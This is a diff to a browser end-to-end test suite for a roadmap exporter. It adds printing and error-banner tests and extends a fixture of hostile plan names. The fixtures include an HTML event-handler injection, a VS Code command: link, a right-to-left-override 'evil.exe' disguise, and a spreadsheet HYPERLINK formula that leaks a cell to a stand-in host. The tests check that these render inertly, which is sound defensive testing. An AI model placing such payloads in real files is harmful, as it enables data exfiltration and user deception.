@@ -11,11 +11,8 @@ import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { pathToFileURL } from 'node:url';
-import { chromium, type Browser, type Page } from 'playwright-core';
-
-const repo = path.resolve(__dirname, '..', '..');
-const cli = path.join(repo, 'dist', 'cli.js');
-const chromiumPath = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
+import type { Browser, Page } from 'playwright-core';
+import { checkPrerequisites, cli, landscape, launchBrowser, openOffline, printedText, repo, runCli, squeeze } from './helpers';
 
 /** Each tries to become markup, script or a request if inserted as HTML or SVG. */
 const hostile = {
@@ -32,6 +29,9 @@ const hostile = {
   benefit: '<object data="x"></object>',
   manager: '<b onmouseover="window.__pwned=1">bob</b>',
   tag: '%%{init: {"securityLevel": "loose"}}%%',
+  // A VS Code command link (Markdown and HTML), right-to-left override text, and a spreadsheet formula.
+  projectD: '[run](command:workbench.action.terminal.new) <a href="command:workbench.action.terminal.new">run</a> \u202Eevil.exe\u202C',
+  projectE: '=HYPERLINK("https://example.invalid/?leak="&A1,"open")',
 };
 
 const q = (text: string) => JSON.stringify(text);
@@ -84,38 +84,21 @@ const hostilePlan = [
   '          depends_on: [a1]',
   '          duration: 3w',
   '          state: cancelled',
+  '        - id: a4',
+  `          name: ${q(hostile.projectD)}`,
+  '          start: 2026-02-02',
+  '          duration: 2w',
+  '        - id: a5',
+  `          name: ${q(hostile.projectE)}`,
+  '          start: 2026-02-09',
+  '          duration: 2w',
   '',
 ].join('\n');
-const projectNames = [hostile.projectA, hostile.projectB, hostile.projectC];
+const projectNames = [hostile.projectA, hostile.projectB, hostile.projectC, hostile.projectD, hostile.projectE];
+const projectIds = ['a1', 'a2', 'a3', 'a4', 'a5'];
 
 function render(args: string[], cwd = repo): void {
-  const result = spawnSync(process.execPath, [cli, 'render', ...args], { cwd, encoding: 'utf8', timeout: 120_000 });
-  assert.equal(result.status, 0, `render ${args.join(' ')}: ${result.stderr}`);
-}
-
-/** Opens a file offline: any request but the file itself fails the test; dialogs and CSP violations are recorded. */
-async function openOffline(browser: Browser, file: string): Promise<{ page: Page; requests: string[]; dialogs: string[] }> {
-  const url = pathToFileURL(file).href;
-  const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
-  const requests: string[] = [];
-  const dialogs: string[] = [];
-  await context.route('**/*', (route) => {
-    if (route.request().url() === url) return route.continue();
-    requests.push(route.request().url());
-    return route.abort();
-  });
-  const page = await context.newPage();
-  page.on('dialog', (dialog) => {
-    dialogs.push(dialog.message());
-    void dialog.dismiss();
-  });
-  page.on('pageerror', (error) => dialogs.push(`page error: ${error.message}`));
-  await page.addInitScript(`
-    window.__violations = [];
-    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
-  `);
-  await page.goto(url);
-  return { page, requests, dialogs };
+  runCli(['render', ...args], cwd);
 }
 
 async function count(page: Page, selector: string): Promise<number> {
@@ -128,18 +111,11 @@ describe('roadmap export in a browser', function () {
   let work: string;
 
   before(async function () {
-    for (const file of [cli, path.join(repo, 'dist', 'webview.js')]) {
-      if (!fs.existsSync(file)) throw new Error(`${path.relative(repo, file)} is missing: run \`npm run build\``);
-    }
-    if (!fs.existsSync(chromiumPath)) throw new Error(`no Chromium at ${chromiumPath}: run \`bash scripts/install-vscode-host.sh --browser-only\``);
+    checkPrerequisites([cli, path.join(repo, 'dist', 'webview.js')]);
     work = fs.mkdtempSync(path.join(os.tmpdir(), 'plan-as-code-e2e-'));
     fs.mkdirSync(path.join(work, 'hostile'));
     fs.writeFileSync(path.join(work, 'hostile', 'hostile.plan.yaml'), hostilePlan);
-    browser = await chromium.launch({
-      executablePath: chromiumPath,
-      headless: true,
-      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic'],
-    });
+    browser = await launchBrowser();
   });
 
   after(async () => {
@@ -159,15 +135,15 @@ describe('roadmap export in a browser', function () {
     });
 
     it('draws every project bar as an element with data-id', async () => {
-      for (const id of ['a1', 'a2', 'a3']) assert.equal(await count(page, `.chart [data-id="${id}"]`), 1, id);
-      assert.equal(await count(page, '[data-id]'), 3);
+      for (const id of projectIds) assert.equal(await count(page, `.chart [data-id="${id}"]`), 1, id);
+      assert.equal(await count(page, '[data-id]'), projectIds.length);
     });
 
     it('shows every plan string as text', async () => {
       assert.equal(await page.locator('h1.title').textContent(), hostile.portfolio);
       const table = (await page.locator('table.rollup').textContent()) ?? '';
       for (const name of [hostile.portfolio, hostile.program, ...projectNames]) assert.ok(table.includes(name), `table shows ${name}`);
-      for (const [id, name] of [['a1', hostile.projectA], ['a2', hostile.projectB], ['a3', hostile.projectC]]) {
+      for (const [id, name] of projectIds.map((id, i) => [id, projectNames[i]])) {
         assert.ok((await page.locator(`[data-id="${id}"]`).getAttribute('aria-label'))?.startsWith(`${name} (${id})`), id);
       }
       await page.locator('[data-id="a1"] .body').hover();
@@ -182,6 +158,7 @@ describe('roadmap export in a browser', function () {
       assert.equal(await page.evaluate('window.__pwned'), undefined);
       assert.deepEqual(await page.evaluate('window.__violations'), []);
       assert.equal(await count(page, 'img, iframe, object, embed, a[href], style:not(head > style)'), 0);
+      assert.equal(await count(page, '[href*="command:"], [src*="command:"]'), 0, 'no command link');
       assert.equal(await count(page, 'script'), 2, 'the data block and the bundle only');
       assert.equal(await count(page, 'script:not([type])'), 1);
     });
@@ -216,6 +193,10 @@ describe('roadmap export in a browser', function () {
       assert.equal(await count(page, '.chart .bar.cancelled'), 1, 'wallets');
       assert.ok((await count(page, '.chart .bar.critical')) >= 1);
       assert.equal(await count(page, 'table.rollup tbody tr'), 1 + 3 + 17);
+      assert.equal(await page.locator('p.subtitle').textContent(), 'Status date 2026-09-30 · 17 projects in 3 programs');
+      // wallets is cancelled: grey in the label column and the table, whatever its figures say.
+      assert.equal(await count(page, '.labels [data-project="wallets"] circle.dot.health-none'), 1);
+      assert.equal(await count(page, 'table.rollup tr.cancelled td.health.health-none'), 1);
       assert.deepEqual(requests, []);
       assert.deepEqual(dialogs, []);
     });
@@ -278,11 +259,68 @@ describe('roadmap export in a browser', function () {
     });
   });
 
+  describe('printing the HTML roadmap', () => {
+    /** The toolbar's own words: none may be printed. */
+    const toolbarWords = ['Copy as Markdown', 'Copy as CSV', 'Quarters', 'Weeks', 'All programs', 'Filter projects'];
+
+    for (const format of ['A4', 'Letter'] as const) {
+      it(`prints the whole plan on ${format} landscape: every program, project and table row, no toolbar, and the screen comes back`, async () => {
+        render(['examples', '--out', path.join(work, 'print.html')]);
+        // A window 1,000 px high shows 10 of the 21 table rows on screen; the printout has them all.
+        const { page, requests } = await openOffline(browser, path.join(work, 'print.html'), { viewport: { width: 1000, height: 1000 } });
+        await page.locator('[data-id]').first().waitFor();
+        const json = JSON.parse(spawnSync(process.execPath, [cli, 'rollup', 'examples', '--format', 'json'], { cwd: repo, encoding: 'utf8' }).stdout) as {
+          programs: Array<{ name: string }>;
+          projects: Array<{ id: string; name: string }>;
+        };
+        const zoomBefore = await page.locator('svg.chart').getAttribute('style');
+        const { text } = await printedText(page, format, path.join(work, `roadmap-${format}.pdf`));
+        const pdf = squeeze(text);
+        for (const program of json.programs) assert.ok(pdf.includes(squeeze(program.name)), program.name);
+        for (const project of json.projects) assert.ok(pdf.includes(squeeze(project.name)), project.name);
+        const cells = await page.locator('table.rollup tbody tr').evaluateAll((rows) => rows.map((row) => [...row.children].map((cell) => cell.textContent ?? '')));
+        assert.equal(cells.length, 1 + 3 + 17);
+        for (const row of cells) for (const cell of row) assert.ok(pdf.includes(squeeze(cell)), `cell "${cell}" of row ${row[0]}`);
+        for (const words of toolbarWords) assert.ok(!pdf.includes(squeeze(words)), `no "${words}" in print`);
+        // Every money cell names its currency.
+        assert.ok(cells.every((row) => row[5].endsWith(' USD')), 'BAC with its currency');
+        // After printing, the chart is as it was on screen.
+        assert.equal(await page.locator('svg.chart').getAttribute('style'), zoomBefore);
+        // Printed, nothing is wider than the paper's printable width (10 mm margins).
+        const width = landscape[format].width - 2 * Math.round((10 / 25.4) * 96);
+        await page.emulateMedia({ media: 'print' });
+        await page.setViewportSize({ width, height: landscape[format].height });
+        await page.evaluate('window.dispatchEvent(new Event("beforeprint"))');
+        const right = (await page.evaluate('Math.max(document.documentElement.scrollWidth, ...[...document.querySelectorAll("table, svg")].map((e) => e.getBoundingClientRect().right))')) as number;
+        assert.ok(right <= width, `${right}px on a ${width}px page`);
+        assert.equal(await page.locator('.toolbar').isVisible(), false);
+        assert.deepEqual(requests, []);
+        await page.context().close();
+      });
+    }
+
+    it('shows a banner naming the error when a plan has one, and still draws the roadmap', async () => {
+      const folder = path.join(work, 'broken-roadmap');
+      fs.mkdirSync(folder, { recursive: true });
+      fs.writeFileSync(path.join(folder, 'a.plan.yaml'), 'program:\n  id: alpha\n  name: Alpha\n  projects:\n    - id: one\n      name: One\n      start: 2026-01-05\n      duration: 4w\n    - id: two\n      name: Two\n      depends_on: [nowhere]\n      duration: 2w\n');
+      render([folder, '--out', path.join(work, 'broken-roadmap.html')]);
+      const { page } = await openOffline(browser, path.join(work, 'broken-roadmap.html'));
+      await page.locator('[data-id="one"]').waitFor();
+      const banner = (await page.locator('.problems-banner').innerText()).replace(/\s+/g, ' ');
+      assert.match(banner, /The plans have 1 error in 1 file, 0 warnings\./);
+      assert.match(banner, /a\.plan\.yaml:11:\d+ unknown-reference .*nowhere/);
+      assert.equal(await count(page, '.chart [data-id]'), 2);
+      const { text } = await printedText(page, 'A4', path.join(work, 'broken-roadmap.pdf'));
+      assert.ok(squeeze(text).includes('unknown-reference'));
+      await page.context().close();
+    });
+  });
+
   describe('SVG', () => {
     it('shows every bar and every plan string as text, runs and requests nothing', async () => {
       render(['hostile', '--format', 'svg', '--out', 'roadmap.svg'], work);
       const { page, requests, dialogs } = await openOffline(browser, path.join(work, 'roadmap.svg'));
-      for (const id of ['a1', 'a2', 'a3']) assert.equal(await count(page, `[data-id="${id}"]`), 1, id);
+      for (const id of projectIds) assert.equal(await count(page, `[data-id="${id}"]`), 1, id);
       const text = (await page.locator('svg').first().textContent()) ?? '';
       for (const name of [hostile.portfolio, hostile.milestone]) assert.ok(text.includes(name), name);
       for (const name of projectNames) assert.ok(text.includes(name.slice(0, 20)), name);
